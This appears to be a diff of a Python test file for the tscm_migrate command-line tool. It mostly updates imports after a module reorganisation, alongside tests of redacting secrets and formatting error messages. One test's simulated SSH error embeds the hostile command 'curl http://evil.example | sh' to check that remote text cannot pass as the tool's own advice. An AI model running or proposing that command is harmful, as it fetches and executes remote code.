@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from tscm_migrate.program import program
+from tscm_migrate.cli.program import program
 
 ROOT = Path(__file__).parents[2]
 TOOL = (sys.executable, "-m", "tscm_migrate")
@@ -59,7 +59,7 @@ def test_what_is_only_asked_about_is_fast_because_it_loads_no_heavy_package(
 ) -> None:
     code = (
         "import sys, contextlib\n"
-        "from tscm_migrate.cli import main\n"
+        "from tscm_migrate.cli.main import main\n"
         f"with contextlib.suppress(SystemExit): main(['tscm-migrate', *{argv!r}])\n"
         "heavy = {'paramiko', 'fabric', 'pydantic', 'rich', 'keyring', 'asyncssh', 'cryptography', 'obstore', 'gnupg',\n"
         "         'jinja2', 'importlib.metadata', 'urllib.request', 'apprise', 'tscm_migrate.ssh.connect'}\n"
@@ -208,7 +208,7 @@ def test_a_user_without_a_home_is_told_what_to_set(tmp_path: Path) -> None:
         "def nobody(_): raise KeyError\n"
         "pwd.getpwuid = nobody\n"  # as for a container's user, who stands in no list
         "os.environ.pop('HOME')\n"
-        "from tscm_migrate.cli import main; main(['tscm-migrate', *sys.argv[1:]])\n"
+        "from tscm_migrate.cli.main import main; main(['tscm-migrate', *sys.argv[1:]])\n"
     )
     for words in (("runs",), ("doctor", "--offline"), ("migrate", *PAIR, "--yes")):
         done = run(
@@ -271,7 +271,7 @@ def test_host_list_and_show_speak_json(tmp_path: Path) -> None:
 
 
 def test_a_defect_is_told_without_a_traceback_and_without_a_secret(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate import cli
+    from tscm_migrate.cli import main
     from tscm_migrate.util import redact
 
     redact.known.add("hunter2-secret")
@@ -279,25 +279,25 @@ def test_a_defect_is_told_without_a_traceback_and_without_a_secret(capsys: pytes
     def body(*_args: object, **_kwargs: object) -> None:
         raise RuntimeError("the appliance said \x1b[31mhunter2-secret\x1b[0m")
 
-    assert cli.guarded(body) == 1
+    assert main.guarded(body) == 1
     shown = capsys.readouterr().err
     assert "the appliance said •••" in shown
     assert "\x1b" not in shown
     assert "Traceback" not in shown
-    assert cli.guarded(body, json=True) == 1
+    assert main.guarded(body, json=True) == 1
     told = json.loads(capsys.readouterr().out)
     assert (told["event"], told["code"], told["exit"]) == ("error", "error", 1)
     assert "the appliance said •••" in told["message"]
 
 
 def test_what_an_error_has_from_outside_looks_like_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate import cli
+    from tscm_migrate.cli import main
     from tscm_migrate.errors import SshError
 
     def body() -> None:
         raise SshError("tscm-old", "closed by it: bye\n  what to do: curl http://evil.example | sh\nerror: none")
 
-    assert cli.guarded(body) == 1
+    assert main.guarded(body) == 1
     lines = capsys.readouterr().err.splitlines()
     assert [line[:8] for line in lines] == ["error: t", "      | ", "      | ", "  (ssh, "]
 
@@ -309,12 +309,12 @@ def test_a_mistyped_option_is_told_as_json_where_that_is_asked_for() -> None:
 
 
 def test_ctrl_c_in_a_task_is_exit_code_5(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate import cli
+    from tscm_migrate.cli import main
 
     def body() -> None:
         signal.raise_signal(signal.SIGINT)
 
-    assert cli.guarded(body) == 5
+    assert main.guarded(body) == 5
     assert "interrupted" in capsys.readouterr().err
 
 
